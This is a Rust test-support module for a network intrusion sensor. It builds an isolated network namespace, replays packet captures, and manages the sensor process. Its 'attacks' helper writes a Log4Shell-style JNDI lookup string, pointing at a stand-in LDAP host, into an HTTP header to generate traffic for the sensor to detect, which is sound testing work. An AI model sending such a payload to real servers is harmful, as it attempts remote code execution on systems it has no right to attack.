//! A network of one's own for a live sensor: a namespace with two interfaces, one to send on and
//! one that the sensor listens to. Needs root, ip and tcpreplay.

use std::fs::{self, File};
use std::net::SocketAddr;
use std::ops::Range;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use traffic::example::cluster;
use traffic::payload::http::{self, Request};
use traffic::{Packet, PcapWriter, Random, Side, TcpSession, Track};

use super::{Results, finish};

/// What the sensor listens to.
pub(crate) const TAP: &str = "tap0";
/// The other end.
const SEND: &str = "send0";

/// One sensor at a time: each takes a CPU for itself.
static TURN: Mutex<()> = Mutex::new(());

/// Waits for one's turn, which lasts as long as this is kept.
pub(crate) fn turn() -> MutexGuard<'static, ()> {
    TURN.lock().unwrap_or_else(PoisonError::into_inner)
}

/// The namespace, gone when dropped.
pub(crate) struct Net {
    name: String,
    _turn: MutexGuard<'static, ()>,
}

impl Net {
    /// Makes one; none where that cannot be done here, which is said.
    pub(crate) fn new() -> Option<Self> {
        let turn = turn();
        let runs = |program: &str, word: &str| {
            Command::new(program).arg(word).output().is_ok_and(|output| output.status.success())
        };
        if !runs("ip", "-V") || !runs("tcpreplay", "-V") {
            eprintln!("skipped: ip or tcpreplay is absent");
            return None;
        }
        let name = format!("pollux-test-{}", std::process::id());
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        if finish(Command::new("ip").args(["netns", "add", &name])).code != Some(0) {
            eprintln!("skipped: cannot make a network namespace, which root can");
            return None;
        }
        let net = Self { name, _turn: turn };
        // Without IPv6 the kernel sends nothing of its own.
        let off = ["net.ipv6.conf.all.disable_ipv6=1", "net.ipv6.conf.default.disable_ipv6=1"];
        net.must(&[&["sysctl", "-qw"][..], &off].concat());
        let queues = ["numrxqueues", "2", "numtxqueues", "2"];
        let link = ["ip", "link", "add", TAP];
        let peer = ["type", "veth", "peer", "name", SEND];
        net.must(&[&link[..], &queues, &peer, &queues].concat());
        for interface in [TAP, SEND] {
            net.must(&["ip", "link", "set", interface, "mtu", "1600", "arp", "off", "up"]);
        }
        Some(net)
    }

    /// The namespace's name.
    pub(crate) fn name(&self) -> &str {
        &self.name
    }

    /// A command in the namespace.
    pub(crate) fn command(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &self.name]).arg(program);
        command
    }

    /// Runs a command in the namespace, which must do well; what it says.
    #[track_caller]
    pub(crate) fn must(&self, words: &[&str]) -> String {
        finish(self.command(words[0]).args(&words[1..])).expect(0).stdout
    }

    /// Packets that the interface has taken.
    #[track_caller]
    pub(crate) fn taken(&self) -> u64 {
        let file = format!("/sys/class/net/{TAP}/statistics/rx_packets");
        let text = self.must(&["cat", &file]);
        text.trim().parse().expect("a count")
    }

    /// Sends a capture at a rate; how many packets that were.
    #[track_caller]
    pub(crate) fn send(&self, capture: &Path, rate: u32) -> u64 {
        let mut command = self.command("tcpreplay");
        command.args(["-q", "-i", SEND, "--pps", &rate.to_string()]).arg(capture);
        let run = finish(&mut command).expect(0);
        let sent = run.stdout.lines().find_map(|it| it.trim().strip_prefix("Successful packets:"));
        sent.and_then(|sent| sent.trim().parse().ok()).unwrap_or_else(|| panic!("{run}"))
    }
}

impl Drop for Net {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.name]).output();
    }
}

/// A running sensor, killed when dropped.
pub(crate) struct Sensor {
    child: Child,
    log: PathBuf,
    /// What it writes.
    pub(crate) results: Results,
    ended: bool,
}

impl Sensor {
    /// Starts one with a configuration file in this folder, and waits until it inspects.
    #[track_caller]
    pub(crate) fn start(net: &Net, folder: &Path) -> Self {
        Self::start_with(net, folder, |_| {})
    }

    /// The same with more on its command line.
    #[track_caller]
    pub(crate) fn start_with(net: &Net, folder: &Path, more: impl FnOnce(&mut Command)) -> Self {
        Self::start_by(net.command(super::binary()), folder, TAP, more)
    }

    /// The same by a command that runs the binary, on a port of this name.
    #[track_caller]
    pub(crate) fn start_by(
        mut command: Command,
        folder: &Path,
        port: &str,
        more: impl FnOnce(&mut Command),
    ) -> Self {
        let log = folder.join("log");
        let file = File::create(&log).expect("a file");
        command.args(["run", "-c"]).arg(folder.join("pollux.toml"));
        more(&mut command);
        let child = command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(file)
            .spawn()
            .expect("it starts");
        let results = Results::of(&folder.join("out"));
        let mut sensor = Self { child, log, results, ended: false };
        let word = format!("inspecting {port}");
        sensor.wait("start", |it| it.said().contains(&word));
        sensor
    }

    /// What it has said so far.
    pub(crate) fn said(&self) -> String {
        fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// Waits until something is so; fails after a while, or if the sensor ends.
    #[track_caller]
    pub(crate) fn wait(&mut self, what: &str, mut is_so: impl FnMut(&Self) -> bool) {
        let deadline = Instant::now() + Duration::from_secs(20);
        while !is_so(self) {
            if let Some(status) = self.child.try_wait().expect("a child") {
                self.ended = true;
                panic!("waiting for {what}, the sensor ended with {status}: {}", self.said());
            }
            assert!(Instant::now() < deadline, "no {what} for too long: {}", self.said());
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// The generation in force, by the ledger.
    pub(crate) fn generation(&self) -> u64 {
        self.results.ledger_now().0["generation"].as_u64().expect("a generation")
    }

    /// The CPU time that it has taken.
    #[track_caller]
    pub(crate) fn cpu_time(&self) -> Duration {
        // `ip netns exec` becomes the program that it runs.
        let text = fs::read_to_string(format!("/proc/{}/stat", self.child.id())).expect("it runs");
        let fields: Vec<&str> = text.rsplit(')').next().expect("a line").split(' ').collect();
        let ticks = |at: usize| fields[at].parse::<u64>().expect("a number");
        // Fields 14 and 15 of the line, 100 to the second.
        Duration::from_millis((ticks(12) + ticks(13)) * 10)
    }

    /// Packets received so far, by the ledger.
    pub(crate) fn received(&self) -> u64 {
        self.results.ledger_now().total("received")
    }

    /// Packets received so far and packets that the kernel dropped before, by the ledger.
    pub(crate) fn accounted(&self) -> u64 {
        let ledger = self.results.ledger_now();
        let missed = &ledger.0["ports"][0]["nic"]["imissed"];
        ledger.total("received") + missed.as_u64().expect("the driver tells")
    }

    /// Does something that changes what is in force, and waits until it is.
    #[track_caller]
    pub(crate) fn change(&mut self, what: &str, change: impl FnOnce()) {
        let before = self.generation();
        change();
        self.wait(what, |it| it.generation() > before);
    }

    /// Sends it a signal by name.
    #[track_caller]
    pub(crate) fn signal(&self, name: &str) {
        let pid = self.child.id().to_string();
        finish(Command::new("kill").args(["-s", name, &pid])).expect(0);
    }

    /// Ends it with SIGTERM, and asserts that it ends well and soon.
    #[track_caller]
    pub(crate) fn stop(&mut self) {
        self.signal("TERM");
        let begin = Instant::now();
        let status = loop {
            if let Some(status) = self.child.try_wait().expect("a child") {
                break status;
            }
            assert!(begin.elapsed() < Duration::from_secs(10), "doesn't end: {}", self.said());
            std::thread::sleep(Duration::from_millis(10));
        };
        self.ended = true;
        assert_eq!(status.code(), Some(0), "{}", self.said());
        assert!(!self.said().contains("panicked"), "{}", self.said());
    }
}

impl Drop for Sensor {
    fn drop(&mut self) {
        if !self.ended {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// Writes packets to a capture.
pub(crate) fn write_capture<'a>(path: &Path, packets: impl IntoIterator<Item = &'a Packet>) {
    let mut writer = PcapWriter::new(Vec::new()).expect("in memory");
    for packet in packets {
        writer.write(packet.time, &packet.bytes).expect("in memory");
    }
    fs::write(path, writer.finish().expect("in memory")).expect("written");
}

/// The packets of connections from an attacker, one for each port: a request that the example's rules
/// tell of, and its answer.
pub(crate) fn attacks(ports: Range<u16>, server: SocketAddr) -> Vec<Packet> {
    let mut packets = Vec::new();
    for port in ports {
        let path = traffic::Path::new((cluster::outside::ATTACKER, port).into(), server);
        let fields = [("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")];
        let request = Request::get("shop.example", "/").fields(&fields).to_bytes();
        let mut session = TcpSession::new(path, &mut Random::new(u64::from(port)));
        let mut track = Track::new(0, 1);
        session.open(&mut track).expect("in memory");
        session.send(Side::Client, &request, &mut track).expect("in memory");
        let answer = http::response("404 Not Found", "text/plain", b"nothing here\n");
        session.send(Side::Server, &answer, &mut track).expect("in memory");
        session.close(Side::Client, &mut track).expect("in memory");
        packets.extend(track.into_packets());
    }
    packets
}

/// Is the outer-most IP packet of a frame a fragment of IPv4?
pub(crate) fn is_ipv4_fragment(frame: &[u8]) -> bool {
    let at = if frame.get(12..14) == Some(&[0x81, 0x00]) { 16 } else { 12 };
    let flags = frame.get(at + 8..at + 10).and_then(|it| <[u8; 2]>::try_from(it).ok());
    frame.get(at..at + 2) == Some(&[0x08, 0x00])
        && flags.is_some_and(|flags| u16::from_be_bytes(flags) & 0x3fff != 0)
}
